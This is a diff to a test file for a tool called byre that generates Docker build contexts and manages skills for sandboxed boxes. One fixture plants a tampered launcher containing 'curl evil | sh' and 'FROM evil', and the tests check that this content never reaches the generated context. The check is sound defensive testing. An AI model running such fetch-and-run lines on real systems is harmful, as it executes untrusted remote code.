@@ -3,7 +3,7 @@
 // (exit 1, file:line:column, rule id) that write nothing.
 
 import { spawnSync } from 'node:child_process';
-import { mkdirSync, readdirSync, writeFileSync } from 'node:fs';
+import { existsSync, mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import path from 'node:path';
 import { describe, expect, it } from 'vitest';
 import { useTempDir } from '../support/temp.js';
@@ -118,6 +118,35 @@ describe('dist/byre', () => {
     expect(r.stderr).toMatch(/files/);
   });
 
+  it('--context writes a fresh build context to build by hand, never the store’s copy (issue 27)', () => {
+    // The store's staged context as a --self-edit box could leave it.
+    const store = path.join(home, 'projects', projectIdFor(project));
+    mkdirSync(path.join(store, 'context'), { recursive: true });
+    writeFileSync(path.join(store, 'context/byre-launch'), '#!/bin/sh\ncurl evil | sh\n');
+    writeFileSync(path.join(store, 'context/Dockerfile.generated'), 'FROM evil\n');
+    const out = path.join(root, 'ctx');
+    const r = byre(['dockerfile', '--context', out]);
+    expect(r.status, r.stderr).toBe(0);
+    expect(readFileSync(path.join(out, 'Dockerfile.generated'), 'utf8')).toBe(r.stdout);
+    const launcher = path.join(out, 'byre-launch');
+    expect(readFileSync(launcher, 'utf8')).toMatch(/^#!\/bin\/(ba)?sh\n/);
+    expect(readFileSync(launcher, 'utf8')).not.toContain('evil');
+    expect(statSync(launcher).mode & 0o111).not.toBe(0);
+    expect(r.stderr).toContain(`-f ${out}/Dockerfile.generated ${out}\n`);
+    // Nowhere a box can write, and never over something that exists.
+    for (const [where, why] of [
+      [out, 'already exists'],
+      [path.join(project, 'ctx'), 'a box could change the context before you build it'],
+      [path.join(store, 'ctx'), 'a box could change the context before you build it'],
+    ] as const) {
+      const refused = byre(['dockerfile', '--context', where]);
+      expect(refused.status, refused.stderr).toBe(3);
+      expect(refused.stderr).toContain(why);
+    }
+    expect(existsSync(path.join(project, 'ctx'))).toBe(false);
+    expect(readdirSync(root).filter((n) => n.includes('staging'))).toEqual([]);
+  });
+
   it('prints completion scripts', () => {
     for (const shell of ['bash', 'zsh', 'fish']) {
       const r = byre(['completion', shell]);
@@ -219,10 +248,48 @@ describe('dist/byre: refused at load, located (file:line:column, key, rule)', ()
     expect(r.stderr).toContain(`${path.join(dir, 'skill.toml')}:2:`);
   });
 
+  it('a skill.toml heredoc holding a [package]-shaped line is data: validate, pack and the Dockerfile keep it', () => {
+    const dir = path.join(home, 'skills', 'me', 'heredoc');
+    mkdirSync(dir, { recursive: true });
+    const heredoc = 'RUN cat <<\'EOF\' > /etc/demo.toml\n[package]\nid = "not/this"\n[other]\nEOF';
+    writeFileSync(
+      path.join(dir, 'skill.toml'),
+      `description = "heredoc"\n[build]\ndockerfile = ['''\n${heredoc}''']\n\n[package]\nid = "me/heredoc"\nversion = "1.0.0"\n`,
+    );
+    const validate = byre(['skill', 'validate', 'me/heredoc']);
+    expect(validate.status, validate.stderr).toBe(0);
+    const out = path.join(root, 'packed.toml');
+    const pack = byre(['skill', 'pack', 'me/heredoc', '-o', out]);
+    expect(pack.status, pack.stderr).toBe(0);
+    const packed = readFileSync(out, 'utf8');
+    expect(packed).toContain(`'''\n${heredoc}'''`);
+    expect(packed).toMatch(/^\[package\]\nid = "me\/heredoc"$/m);
+    projectConfig('skills = ["me/heredoc"]\n');
+    const dockerfile = byre(['dockerfile']);
+    expect(dockerfile.status, dockerfile.stderr).toBe(0);
+    expect(dockerfile.stdout).toContain(`\n${heredoc}\n`);
+  });
+
+  it('a Claude Skill directory a skill carries without SKILL.md is refused naming SKILL.md', () => {
+    const dir = path.join(home, 'skills', 'me', 'tool');
+    mkdirSync(path.join(dir, 'cs', 'tdd'), { recursive: true });
+    writeFileSync(path.join(dir, 'cs', 'tdd', '.keep'), '');
+    writeFileSync(
+      path.join(dir, 'skill.toml'),
+      'description = "t"\n\n[[claude_skills]]\nname = "tdd"\nfrom = "cs/tdd"\n',
+    );
+    const r = byre(['skill', 'validate', 'me/tool']);
+    expect(r.status).toBe(1);
+    expect(r.stderr).toContain(
+      `${path.join(dir, 'skill.toml')}:5:1 [claude_skills[0].from]: claude skill "tdd" ("cs/tdd"): it has no SKILL.md at its root (skill.claude-skill-invalid)`,
+    );
+  });
+
   it('skill init refuses reserved, retired, upper-case and dotted ids', () => {
     for (const [id, rule] of [
       ['none', /reserved/],
-      ['devlog', /moved to pjlsergeant\/devlog/],
+      ['devlog', /lives on as pjlsergeant\/devlog/],
+      ['devloop', /renamed to devlog, then moved out of byre/],
       ['MyTool', /upper-case/],
       ['my.tool', /a dot/],
     ] as const) {
@@ -233,11 +300,27 @@ describe('dist/byre: refused at load, located (file:line:column, key, rule)', ()
     expect(byre(['skill', 'init', 'my-tool']).status).toBe(0);
   });
 
-  it('gives a retired bundled name its rename', () => {
-    const file = projectConfig('skills = ["devlog"]\n');
-    const stderr = refused(['dockerfile'], file, '1:11', 'skills[0]', 'skills.retired');
-    expect(stderr).toContain('moved to pjlsergeant/devlog');
-  });
+  it.each([
+    [
+      'codereview',
+      'skill "codereview" is no longer bundled with byre: it was moved out of byre, and lives on as pjlsergeant/codereview',
+      'fix: install it: byre skill install https://raw.githubusercontent.com/pjlsergeant/pjlsergeant-byre-skills/v1.0.2/skills/codereview/skill.toml --digest sha256:3d0bf433dfab52ad947e125987d50b44aa47000414bbe14023bbcf80277ade86, then write "pjlsergeant/codereview" in place of "codereview"',
+    ],
+    [
+      'devloop',
+      'skill "devloop" is no longer bundled with byre: it was renamed to devlog, then moved out of byre, and lives on as pjlsergeant/devlog',
+      'fix: install it: byre skill install https://raw.githubusercontent.com/pjlsergeant/pjlsergeant-byre-skills/v1.0.0/skills/devlog/skill.toml --digest sha256:9ecb65b18386ceea0dc54b7bb040b42e29a9872ab8fed4f9b1f86d5562926c12, then write "pjlsergeant/devlog" in place of "devloop"',
+    ],
+  ])(
+    'gives the retired bundled name %s its tombstone, never a bare not-found',
+    (name, message, fix) => {
+      const file = projectConfig(`skills = ["firewall", "${name}"]\n`);
+      const stderr = refused(['dockerfile'], file, '1:23', 'skills[1]', 'skills.retired');
+      expect(stderr).toContain(message);
+      expect(stderr).toContain(fix);
+      expect(stderr).not.toMatch(/not available|known skills/);
+    },
+  );
 
   it('!byre/claude in the project cancels claude from default.config', () => {
     mkdirSync(home, { recursive: true });
